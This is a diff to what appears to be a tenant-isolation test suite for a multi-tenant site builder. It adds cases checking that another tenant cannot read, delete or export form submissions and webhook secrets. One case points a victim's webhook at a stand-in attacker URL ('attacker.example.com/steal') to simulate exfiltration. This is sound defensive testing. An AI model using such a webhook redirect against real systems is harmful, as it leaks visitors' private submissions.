@@ -5,6 +5,7 @@ import { fileURLToPath } from 'node:url';
 import { eq } from 'drizzle-orm';
 import { buildSchema, type GraphQLObjectType } from 'graphql';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { formDeliverySettings, formSubmissions } from '../src/db/forms-schema.ts';
 import {
   activities,
   apps,
@@ -56,6 +57,19 @@ import {
   UPDATE_TEMPLATE,
 } from './authoring-helpers.ts';
 import { BREAKPOINT_VALUE_COUNTS, breakpointInput, UPDATE_APP_BREAKPOINTS } from './breakpoint-helpers.ts';
+import {
+  APP_FORMS,
+  DELETE_FORM_SUBMISSIONS,
+  FORM_DELIVERY_SETTINGS,
+  FORM_SUBMISSION,
+  FORM_SUBMISSIONS,
+  formKeyOn,
+  insertSubmission,
+  MARK_FORM_SUBMISSIONS,
+  ROTATE_FORM_WEBHOOK_SECRET,
+  settingsInput,
+  UPDATE_FORM_DELIVERY_SETTINGS,
+} from './forms-helpers.ts';
 import {
   createTestApp,
   type GraphQLAnswer,
@@ -157,6 +171,9 @@ interface Victim {
   prefab: { id: string; name: string };
   /** Two published versions of A's page, the second live. */
   versions: { first: string; second: string };
+  /** A form on A's page, a submission of it, and its delivery settings with a webhook secret. */
+  formKey: string;
+  submissionId: string;
   secrets: string[];
 }
 
@@ -344,6 +361,67 @@ const CASES: Record<string, Case[]> = {
     },
   ],
   'Mutation.deleteApp': [{ label: "A's app", query: DELETE_APP, variables: (a) => ({ id: a.appId }) }],
+  'Query.appForms': [{ label: "A's app", query: APP_FORMS, variables: (a) => ({ appId: a.appId }) }],
+  'Query.formSubmissions': [
+    { label: "A's app", query: FORM_SUBMISSIONS, variables: (a) => ({ appId: a.appId }) },
+    {
+      label: "A's app, A's form, searching A's marker",
+      query: FORM_SUBMISSIONS,
+      variables: (a) => ({ appId: a.appId, formKey: a.formKey, search: a.marker }),
+    },
+  ],
+  'Query.formSubmission': [
+    { label: "A's submission", query: FORM_SUBMISSION, variables: (a) => ({ id: a.submissionId }) },
+  ],
+  'Query.formDeliverySettings': [
+    {
+      label: "A's form",
+      query: FORM_DELIVERY_SETTINGS,
+      variables: (a) => ({ appId: a.appId, formKey: a.formKey }),
+    },
+  ],
+  'Mutation.markFormSubmissions': [
+    {
+      label: "A's submission in A's app",
+      query: MARK_FORM_SUBMISSIONS,
+      variables: (a) => ({ appId: a.appId, ids: [a.submissionId], read: true }),
+    },
+    {
+      label: "A's submission through B's app",
+      query: MARK_FORM_SUBMISSIONS,
+      variables: (a, b) => ({ appId: b.appId, ids: [a.submissionId], read: true }),
+    },
+  ],
+  'Mutation.deleteFormSubmissions': [
+    {
+      label: "A's submission in A's app",
+      query: DELETE_FORM_SUBMISSIONS,
+      variables: (a) => ({ appId: a.appId, ids: [a.submissionId] }),
+    },
+    {
+      label: "A's submission through B's app",
+      query: DELETE_FORM_SUBMISSIONS,
+      variables: (a, b) => ({ appId: b.appId, ids: [a.submissionId] }),
+    },
+  ],
+  'Mutation.updateFormDeliverySettings': [
+    {
+      label: "A's form",
+      query: UPDATE_FORM_DELIVERY_SETTINGS,
+      variables: (a) => ({
+        appId: a.appId,
+        formKey: a.formKey,
+        input: settingsInput({ webhook: true, webhookUrl: 'https://attacker.example.com/steal' }),
+      }),
+    },
+  ],
+  'Mutation.rotateFormWebhookSecret': [
+    {
+      label: "A's form",
+      query: ROTATE_FORM_WEBHOOK_SECRET,
+      variables: (a) => ({ appId: a.appId, formKey: a.formKey }),
+    },
+  ],
   'Query.siteSettings': [{ label: "A's app", query: SITE_SETTINGS, variables: (a) => ({ appId: a.appId }) }],
   'Mutation.updateSiteSettings': [
     {
@@ -601,6 +679,13 @@ const REST_CASES: Record<string, Array<{ label: string; url: (a: Victim) => stri
     { label: "A's organization", url: (a) => `/users/current-org/${a.org.id}` },
   ],
   'POST /upload/:appId': [{ label: "into A's app", url: (a) => `/upload/${a.appId}` }],
+  'GET /apps/:appId/form-submissions.csv': [
+    { label: "A's submissions", url: (a) => `/apps/${a.appId}/form-submissions.csv` },
+    {
+      label: "A's form's submissions",
+      url: (a) => `/apps/${a.appId}/form-submissions.csv?form=${encodeURIComponent(a.formKey)}`,
+    },
+  ],
   // A's files are public by design (decision 0014: unguessable URLs, shown by live sites to anyone); what B
   // can do is guess, and a guessed name in A's app is a 404.
   'GET /media/:appId/:file': [
@@ -690,6 +775,25 @@ describe('tenant isolation', () => {
         await insertVersion(t.database.db, { pageId: page.id, appId, number: 2, url: page.url, live: true })
       ).id,
     };
+    const formKey = formKeyOn(page.id);
+    const submission = await insertSubmission(t.database.db, {
+      appId,
+      formKey,
+      pageId: page.id,
+      values: {
+        name: `Victim visitor ${marker}`,
+        email: `visitor-${marker}@example.com`,
+        message: 'private',
+      },
+    });
+    const webhookSecret = `whsec_victim${marker}`;
+    await t.database.db.insert(formDeliverySettings).values({
+      appId,
+      formKey,
+      webhook: true,
+      webhookUrl: `https://victim-hooks.example.com/${marker}`,
+      webhookSecret,
+    });
     a = {
       owner,
       admin,
@@ -708,7 +812,12 @@ describe('tenant isolation', () => {
       upload: victimUpload,
       prefab: victimPrefab,
       versions,
+      formKey,
+      submissionId: submission.id,
       secrets: [
+        submission.id,
+        webhookSecret,
+        `visitor-${marker}@example.com`,
         versions.first,
         versions.second,
         victimPrefab.id,
@@ -788,6 +897,11 @@ describe('tenant isolation', () => {
       uploads: await db.select().from(uploads).where(eq(uploads.appId, a.appId)),
       prefabs: await db.select().from(prefabs).where(eq(prefabs.appId, a.appId)),
       siteSettings: await db.select().from(siteSettings).where(eq(siteSettings.appId, a.appId)),
+      formSubmissions: await db.select().from(formSubmissions).where(eq(formSubmissions.appId, a.appId)),
+      formDeliverySettings: await db
+        .select()
+        .from(formDeliverySettings)
+        .where(eq(formDeliverySettings.appId, a.appId)),
       owner: await db.select().from(users).where(eq(users.id, a.owner.id)),
       admin: await db.select().from(users).where(eq(users.id, a.admin.id)),
     };
@@ -940,6 +1054,20 @@ describe('tenant isolation', () => {
     );
     const history = await gql(t, PAGE_VERSIONS, { pageId: a.page.id }, a.admin.token);
     expect(JSON.stringify(ok(history))).toContain(a.versions.first);
+    const submission = await gql(t, FORM_SUBMISSION, { id: a.submissionId }, a.admin.token);
+    expect(JSON.stringify(ok(submission))).toContain(a.marker);
+    const found = await gql(t, FORM_SUBMISSIONS, { appId: a.appId, search: a.marker }, a.admin.token);
+    expect(JSON.stringify(ok(found))).toContain(a.submissionId);
+    const settings = await gql(
+      t,
+      FORM_DELIVERY_SETTINGS,
+      { appId: a.appId, formKey: a.formKey },
+      a.admin.token,
+    );
+    expect(JSON.stringify(ok(settings))).toContain(`whsec_victim${a.marker}`);
+    const csv = await send(t, 'GET', `/apps/${a.appId}/form-submissions.csv`, { token: a.admin.token });
+    expect(csv.statusCode).toBe(200);
+    expect(csv.body).toContain(`Victim visitor ${a.marker}`);
   });
 
   it("a rollback to a version of another tenant's page is 404, and nothing changes on either live site", async () => {
